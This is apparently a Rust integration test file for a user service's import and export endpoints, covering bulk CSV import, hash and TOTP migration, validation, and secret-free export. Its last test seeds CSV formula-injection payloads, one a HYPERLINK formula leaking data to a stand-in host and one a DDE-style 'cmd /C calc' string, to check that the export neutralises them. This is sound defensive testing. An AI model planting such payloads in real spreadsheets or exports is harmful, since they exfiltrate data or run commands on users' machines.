//! Importing users (JSON and CSV, all or nothing, idempotent) and exporting them.

use reqwest::Method;
use serde_json::{Value, json};

use crate::helpers::{TestApp, oathtool, spawn_app};

async fn import(app: &TestApp, content_type: &str, body: String) -> reqwest::Response {
    app.with_key(Method::POST, "/api/user/import")
        .header("Content-Type", content_type)
        .body(body)
        .send()
        .await
        .unwrap()
}

#[tokio::test]
async fn ten_thousand_users_with_phones_and_the_authy_flag_import_in_one_go_and_again_change_nothing()
 {
    let app = spawn_app().await;
    let mut csv = String::from("username,email,mobile_phone,authy_migrated\n");
    for i in 0..10_000 {
        csv.push_str(&format!(
            "user{i:05},user{i:05}@example.com,+1 303 555 {:04},true\n",
            i % 10_000
        ));
    }
    let started = std::time::Instant::now();
    let response = import(&app, "text/csv", csv.clone()).await;
    let took = started.elapsed();
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.json::<Value>().await.unwrap(),
        json!({"created": 10000, "unchanged": 0})
    );
    println!("imported 10,000 users in {:.2} s", took.as_secs_f64());

    let again = import(&app, "text/csv", csv).await;
    assert_eq!(
        again.json::<Value>().await.unwrap(),
        json!({"created": 0, "unchanged": 10000})
    );
    assert_eq!(app.core.store.users().count_users().await.unwrap(), 10_000);
    assert!(app.core.store.users().has_users().await.unwrap());

    // The first login of a migrated user sends the SMS at once; the second does not.
    let found: Value = app
        .with_key(Method::GET, "/api/user?username=user00042")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let id = found["user"]["id"].as_str().unwrap();
    assert_eq!(found["user"]["authyMigrated"], true);
    assert_eq!(found["user"]["twoFactor"]["methods"][0]["method"], "sms");
    app.with_key(Method::PATCH, &format!("/api/user/{id}"))
        .json(&json!({"user": {"password": "a password of my own"}}))
        .send()
        .await
        .unwrap();
    let (status, body) = app
        .login_json(json!({"loginId": "user00042", "password": "a password of my own"}))
        .await;
    assert_eq!(status, 242, "{body}");
    let code = app.code_sent_to("+13035550042").await;
    let done = app
        .finish_two_factor(body["twoFactorId"].as_str().unwrap(), &code, json!({}))
        .await;
    assert_eq!(done.status(), 200);
    let before = app.outbox().await.len();
    let (status, _) = app
        .login_json(json!({"loginId": "user00042", "password": "a password of my own"}))
        .await;
    assert_eq!(status, 242);
    assert_eq!(
        app.outbox().await.len(),
        before,
        "only the first login sends at once"
    );
}

#[tokio::test]
async fn existing_password_hashes_and_totp_secrets_come_along() {
    let app = spawn_app().await;
    let bcrypt_hash = bcrypt::hash("import me please", 4).unwrap();
    let secret = "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ";
    let users = json!({"users": [
        {"username": "old", "passwordHash": bcrypt_hash},
        {"username": "app", "totpSecrets": [format!("otpauth://totp/Acme:app?secret={secret}&issuer=Acme")], "twoFactorRequired": true},
        {"username": "nopass"}
    ]});
    let response = import(&app, "application/json", users.to_string()).await;
    assert_eq!(response.status(), 200, "{}", response.text().await.unwrap());
    let (status, _) = app
        .login_json(json!({"loginId": "old", "password": "import me please"}))
        .await;
    assert_eq!(status, 200);
    let stored: String =
        sqlx::query_scalar("SELECT password_hash FROM users WHERE username = 'old'")
            .fetch_one(app.core.store.pool())
            .await
            .unwrap();
    assert!(
        stored.starts_with("$argon2id$"),
        "replaced at the first login: {stored}"
    );
    let (status, _) = app
        .login_json(json!({"loginId": "nopass", "password": "anything at all"}))
        .await;
    assert_eq!(status, 404, "no password imported: none matches");

    let found: Value = app
        .with_key(Method::GET, "/api/user?username=app")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let id = found["user"]["id"].as_str().unwrap();
    assert_eq!(found["user"]["twoFactor"]["methods"][0]["name"], "app");
    app.with_key(Method::PATCH, &format!("/api/user/{id}"))
        .json(&json!({"user": {"password": "a password of my own"}}))
        .send()
        .await
        .unwrap();
    let (status, body) = app
        .login_json(json!({"loginId": "app", "password": "a password of my own"}))
        .await;
    assert_eq!(status, 242);
    let done = app
        .finish_two_factor(
            body["twoFactorId"].as_str().unwrap(),
            &oathtool(secret, 0),
            json!({}),
        )
        .await;
    assert_eq!(done.status(), 200);
}

#[tokio::test]
async fn one_bad_row_refuses_the_whole_file_naming_every_bad_line() {
    let app = spawn_app().await;
    let csv = "username,email,mobile_phone,password_hash\n\
               good,good@example.com,,\n\
               bad one,nope,555,md5:abc\n\
               fine,,+44 20 7946 0958,\n\
               good,dup@example.com,,\n";
    let response = import(&app, "text/csv", csv.into()).await;
    assert_eq!(response.status(), 400);
    let errors: Value = response.json().await.unwrap();
    let messages: Vec<&str> = errors["generalErrors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["message"].as_str().unwrap())
        .collect();
    assert_eq!(messages.len(), 2, "{messages:?}");
    assert!(
        messages[0].starts_with("line 3:") && messages[0].contains("passwordHash"),
        "{}",
        messages[0]
    );
    assert!(
        messages[1].starts_with("line 5:") && messages[1].contains("twice"),
        "{}",
        messages[1]
    );
    assert_eq!(
        app.core.store.users().count_users().await.unwrap(),
        0,
        "nothing was imported"
    );
    let wrong_type = import(&app, "text/plain", "x".into()).await;
    assert_eq!(wrong_type.status(), 415);
}

#[tokio::test]
async fn an_export_holds_no_secret_and_imports_back() {
    let app = spawn_app().await;
    app.create_user(
        "ann",
        json!({"email": "ann@example.com", "mobilePhone": "+1 303 555 1212", "roles": ["admin"]}),
    )
    .await;
    let csv = app
        .with_key(Method::GET, "/api/user/export?format=csv")
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(csv.starts_with("username,email,full_name,mobile_phone,roles,password_hash"));
    assert!(
        csv.contains("ann,ann@example.com,,'+13035551212,admin,,,false,false,true"),
        "{csv}"
    );
    assert!(!csv.contains("$argon2"));
    let json: Value = app
        .with_key(Method::GET, "/api/user/export")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(json["users"][0]["username"], "ann");
    assert!(json["users"][0].get("passwordHash").is_none());

    let other = spawn_app().await;
    let response = import(&other, "text/csv", csv).await;
    assert_eq!(response.json::<Value>().await.unwrap()["created"], 1);
    let bad = app
        .with_key(Method::GET, "/api/user/export?format=xml")
        .send()
        .await
        .unwrap();
    assert_eq!(bad.status(), 400);
}

#[tokio::test]
async fn a_csv_export_keeps_formulas_as_text_and_imports_them_back_as_they_were() {
    let app = spawn_app().await;
    let formula = r#"=HYPERLINK("https://evil.example/?leak="&A1,"open")"#;
    app.create_user("fay", json!({"fullName": formula})).await;
    app.create_user("gus", json!({"fullName": "@SUM(1+1)*cmd|' /C calc'!A0"}))
        .await;
    let csv = app
        .with_key(Method::GET, "/api/user/export?format=csv")
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    // No cell starts with a formula's first character: each is kept as text by a leading '.
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?} in {csv}"
            );
        }
    }
    assert!(csv.contains("'=HYPERLINK("), "{csv}");
    assert!(csv.contains("'@SUM("), "{csv}");

    let other = spawn_app().await;
    let response = import(&other, "text/csv", csv).await;
    assert_eq!(response.json::<Value>().await.unwrap()["created"], 2);
    let fay: Value = other
        .with_key(Method::GET, "/api/user?username=fay")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(fay["user"]["fullName"], formula);
}
